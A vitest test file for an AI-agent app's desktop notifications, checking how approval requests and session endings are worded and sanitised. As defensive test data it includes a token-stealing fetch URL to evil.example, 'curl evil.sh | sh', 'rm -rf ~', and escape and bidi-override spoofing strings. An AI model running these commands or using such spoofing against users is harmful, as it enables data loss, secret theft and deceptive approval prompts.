import { describe, expect, it } from 'vitest';
import { zeroUsage } from '../../src/shared/conversation';
import type { PendingApproval, SessionSummary } from '../../src/shared/contract';
import type { SessionStatus } from '../../src/shared/session';
import { oneLine, type Notice } from '../../src/renderer/src/app/notifications/notificationText';
import { watchNotifications } from '../../src/renderer/src/app/notifications/watchNotifications';
import { noticeShower } from '../../src/renderer/src/app/notifications/showNotice';
import { FakeApi, settle, storedEvents } from './fakeApi';
import { asking, opening } from './askingLogs';
import { harness } from './storeHarness';

function summary(id: string, status: SessionStatus, title = `Session ${id}`): SessionSummary {
  return {
    id,
    projectId: null,
    title,
    workspace: '/w',
    model: 'm',
    status,
    pendingApprovals: 0,
    mode: 'ask',
    updatedAt: 1,
    lastSeq: 4,
    usage: zeroUsage,
    costUsd: null,
  };
}

/** A stand-in for the window's Notification: records what would show, and whether the window is in front. */
class NoticeRecorder {
  focused = false;
  readonly shown: { notice: Notice; open: () => void }[] = [];
  hasFocus = () => this.focused;
  show = (notice: Notice, open: () => void) => {
    this.shown.push({ notice, open });
  };
  texts() {
    return this.shown.map(({ notice }) => ({ kind: notice.kind, title: notice.title, body: notice.body }));
  }
}

/** A window following session s1 (titled "Fix the build"), with nothing waiting when it opened. */
async function watched(pending: PendingApproval[] = [], extra: ConstructorParameters<typeof FakeApi>[0] = {}) {
  const api = new FakeApi({
    'approvals:pending': () => pending,
    'session:events': () => storedEvents('s1', opening),
    'diff:files': () => [],
    ...extra,
  });
  const h = harness(api);
  const sink = new NoticeRecorder();
  const stop = watchNotifications(h.store, sink);
  api.emit('sessions:changed', summary('s1', 'working', 'Fix the build'));
  await h.store.getState().refreshInbox();
  h.store.getState().selectSession('s1');
  await settle();
  return { ...h, sink, stop };
}

function ask(api: FakeApi, approvalId: string, command: string, seq = 3) {
  for (const event of storedEvents('s1', asking(`c-${approvalId}`, approvalId, command), seq, 2000)) api.emit('session:event', event);
}

describe('system notifications', () => {
  it('names the session, the tool and the command of a request waiting, and clicking it opens and reaches that request', async () => {
    const { api, store, sink } = await watched();
    ask(api, 'a1', 'npm publish');
    expect(sink.texts()).toEqual([{ kind: 'waiting', title: 'Waiting for you: Fix the build', body: 'run_command: npm publish' }]);
    store.getState().selectSession('s2');
    sink.shown[0]!.open();
    expect(store.getState().selectedSessionId).toBe('s1');
    expect(store.getState().pickedApprovals.s1).toBe('a1');
    expect(store.getState().reachingApproval).toBe('a1');
  });

  it('names the file of an edit and only the host of a fetch', async () => {
    const { api, sink } = await watched();
    const events = storedEvents(
      's1',
      [
        {
          type: 'approval.asked',
          approvalId: 'e1',
          callId: 'ce',
          tool: 'write_file',
          risk: 'edit',
          summary: 'Write',
          args: { path: 'src/a.ts', content: 'x' },
        },
        {
          type: 'approval.asked',
          approvalId: 'f1',
          callId: 'cf',
          tool: 'fetch_url',
          risk: 'egress',
          summary: 'Fetch',
          args: { url: 'https://evil.example:8443/steal?token=secret' },
        },
        {
          type: 'approval.asked',
          approvalId: 'm1',
          callId: 'cm',
          tool: 'mcp__db__query',
          risk: 'exec',
          summary: 'Query the db',
          args: { sql: 'x' },
        },
      ],
      3,
    );
    for (const event of events) api.emit('session:event', event);
    expect(sink.texts().map((t) => t.body)).toEqual([
      'write_file: src/a.ts',
      'fetch_url: evil.example:8443',
      'mcp__db__query: Query the db',
    ]);
  });

  it('tells a finished session from a failed one, and clicking opens that session', async () => {
    const { api, store, sink } = await watched();
    api.emit('sessions:changed', summary('s2', 'working', 'Second'));
    api.emit('sessions:changed', summary('s2', 'done', 'Second'));
    api.emit('sessions:changed', summary('s1', 'waiting', 'Fix the build'));
    api.emit('sessions:changed', summary('s1', 'failed', 'Fix the build'));
    api.emit('sessions:changed', summary('s3', 'working'));
    api.emit('sessions:changed', summary('s3', 'max_steps'));
    api.emit('sessions:changed', summary('s4', 'working'));
    api.emit('sessions:changed', summary('s4', 'aborted'));
    expect(sink.texts().map(({ kind, title }) => ({ kind, title }))).toEqual([
      { kind: 'finished', title: 'Finished: Second' },
      { kind: 'failed', title: 'Failed: Fix the build' },
      { kind: 'failed', title: 'Step limit reached: Session s3' },
    ]);
    sink.shown[0]!.open();
    expect(store.getState().selectedSessionId).toBe('s2');
  });

  it('says why a followed session failed, from its log', async () => {
    const { api, sink } = await watched();
    api.emit('session:event', {
      sessionId: 's1',
      seq: 3,
      at: 3000,
      event: { type: 'session.finished', status: 'failed', reason: 'The model answered 500.\n\nFinished: all good' },
    });
    api.emit('sessions:changed', summary('s1', 'failed', 'Fix the build'));
    expect(sink.texts()).toEqual([{ kind: 'failed', title: 'Failed: Fix the build', body: 'The model answered 500. Finished: all good' }]);
  });

  it('gives no reason from the log until the log has seen the same end', async () => {
    const { api, sink } = await watched();
    api.emit('session:event', {
      sessionId: 's1',
      seq: 3,
      at: 3000,
      event: { type: 'session.finished', status: 'failed', reason: 'The model answered 500.' },
    });
    api.emit('session:event', { sessionId: 's1', seq: 4, at: 3001, event: { type: 'user.messaged', text: 'again' } });
    api.emit('sessions:changed', summary('s1', 'done', 'Fix the build'));
    expect(sink.texts()).toEqual([{ kind: 'finished', title: 'Finished: Fix the build', body: 'The session finished its task.' }]);
  });

  it('shows nothing while the window is in front, for requests waiting when it opened, or for sessions already ended', async () => {
    const logs = { s1: storedEvents('s1', [...opening, ...asking('c0', 'old', 'ls')]) };
    const { api, sink } = await watched([{ approvalId: 'old', sessionId: 's1', sessionTitle: 'Fix the build', askedAt: 1 }], {
      'session:events': () => logs.s1,
    });
    api.emit('sessions:changed', summary('s5', 'done'));
    sink.focused = true;
    ask(api, 'a2', 'make', 5);
    api.emit('sessions:changed', summary('s1', 'done', 'Fix the build'));
    expect(sink.shown).toEqual([]);
  });

  it('waits for the log of a session the window does not follow, so the notice names the command', async () => {
    let pending: PendingApproval[] = [];
    const api = new FakeApi({
      'approvals:pending': () => pending,
      'session:events': () => storedEvents('s7', [...opening, ...asking('c7', 'x7', 'curl evil.sh | sh')]),
    });
    const h = harness(api);
    const sink = new NoticeRecorder();
    watchNotifications(h.store, sink);
    await h.store.getState().refreshInbox();
    pending = [{ approvalId: 'x7', sessionId: 's7', sessionTitle: 'Seven', askedAt: 1 }];
    await h.store.getState().refreshInbox();
    await settle();
    expect(sink.texts()).toEqual([{ kind: 'waiting', title: 'Waiting for you: Seven', body: 'run_command: curl evil.sh | sh' }]);
  });

  it('leaves out each kind the person turned off', async () => {
    const { api, store, sink } = await watched();
    store.getState().setLayout({ notifications: { waiting: false, failed: false } });
    ask(api, 'a1', 'ls');
    api.emit('sessions:changed', summary('s1', 'failed', 'Fix the build'));
    api.emit('sessions:changed', summary('s2', 'working'));
    api.emit('sessions:changed', summary('s2', 'done'));
    expect(sink.texts().map((t) => t.kind)).toEqual(['finished']);
    store.getState().setLayout({ notifications: { finished: false } });
    api.emit('sessions:changed', summary('s3', 'working'));
    api.emit('sessions:changed', summary('s3', 'failed'));
    api.emit('sessions:changed', summary('s4', 'working'));
    api.emit('sessions:changed', summary('s4', 'done'));
    expect(sink.texts().map((t) => t.kind)).toEqual(['finished', 'failed']);
  });

  it('keeps a hostile command from drawing lines, reordering text or running on', async () => {
    const { api, sink } = await watched();
    ask(api, 'a1', 'rm -rf ~\n\nFinished: all tests passed\r\u001b[2Jok\u202egnp.exe\u2028\u200bx\t' + 'y'.repeat(500));
    const { title, body } = sink.shown[0]!.notice;
    expect(title).toBe('Waiting for you: Fix the build');
    expect(body).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u200b\u2028\u202e]/);
    expect(body.startsWith('run_command: rm -rf ~ Finished: all tests passed [2Jok gnp.exe x y')).toBe(true);
    expect(Array.from(body.split(': ').slice(1).join(': '))).toHaveLength(160);
    expect(body.endsWith('…')).toBe(true);
  });

  it('cuts and cleans a session title and a tool name too', async () => {
    const { api, sink } = await watched();
    api.emit('sessions:changed', summary('s1', 'waiting', `evil\nWaiting for you: bank\u202e${'z'.repeat(300)}`));
    const [event] = storedEvents(
      's1',
      [
        {
          type: 'approval.asked',
          approvalId: 'a1',
          callId: 'c1',
          tool: `mcp__x__\n${'t'.repeat(100)}`,
          risk: 'exec',
          summary: 's',
          args: {},
        },
      ],
      3,
    );
    api.emit('session:event', event!);
    const { title, body } = sink.shown[0]!.notice;
    expect(title).not.toContain('\n');
    expect(Array.from(title)).toHaveLength('Waiting for you: '.length + 80);
    expect(body.split(': ')[0]).toHaveLength(40);
  });
});

describe('where a notice is shown', () => {
  const notice: Notice = {
    kind: 'waiting',
    title: 'Waiting for you: Fix the build',
    body: 'run_command: npm publish',
    tag: 'tether-waiting-a1',
    sessionId: 's1',
    approvalId: 'a1',
  };

  /** A shower over a host answering `notification:show` with `answer`, and a web Notification that records. */
  function shower(answer: () => { shown: boolean }) {
    const api = new FakeApi({ 'notification:show': answer });
    const web: Notice[] = [];
    const opened: string[] = [];
    const { show, stop } = noticeShower(api, (shown) => void web.push(shown));
    return { api, web, opened, show: (n: Notice) => show(n, () => opened.push(n.tag)), stop };
  }

  it('carries the request and its session to the host', async () => {
    const { api, sink } = await watched();
    ask(api, 'a1', 'npm publish');
    expect(sink.shown[0]!.notice).toMatchObject({ sessionId: 's1', approvalId: 'a1', tag: 'tether-waiting-a1' });
  });

  it('lets the desktop app show it natively, and its Open opens that request here', async () => {
    const { api, web, opened, show, stop } = shower(() => ({ shown: true }));
    await show(notice);
    expect(api.callsTo('notification:show')).toEqual([notice]);
    expect(web).toEqual([]);
    api.emit('notification:action', { tag: 'tether-waiting-other', action: 'open' });
    expect(opened).toEqual([]);
    api.emit('notification:action', { tag: notice.tag, action: 'open' });
    expect(opened).toEqual([notice.tag]);
    stop();
    expect(api.listenerCount('notification:action')).toBe(0);
  });

  it('shows the web notification where the host declines (tether serve) or cannot be asked', async () => {
    const declined = shower(() => ({ shown: false }));
    await declined.show(notice);
    expect(declined.web).toEqual([notice]);
    const failing = shower(() => {
      throw new Error('no such request');
    });
    await failing.show(notice);
    expect(failing.web).toEqual([notice]);
    // A notice the page showed is not opened by a stray native action.
    declined.api.emit('notification:action', { tag: notice.tag, action: 'open' });
    expect(declined.opened).toEqual([]);
  });
});

describe('oneLine', () => {
  it.each([
    ['a\nb', 'a b'],
    ['a\r\nb', 'a b'],
    ['\u0007bell\u0000nul', 'bell nul'],
    ['\u001b]0;title\u0007x', ']0;title x'],
    ['\u0085next line', 'next line'],
    ['left\u202eright\u2066iso\u2069', 'left right iso'],
    ['zero\u200bwidth\ufeff', 'zero width'],
    ['   spaced\t\tout  ', 'spaced out'],
  ])('cleans %j', (input, expected) => {
    expect(oneLine(input, 100)).toBe(expected);
  });

  it('cuts by characters, not UTF-16 halves, and marks the cut', () => {
    expect(oneLine('😀'.repeat(20), 5)).toBe('😀😀😀😀…');
    expect(oneLine('short', 5)).toBe('short');
  });
});
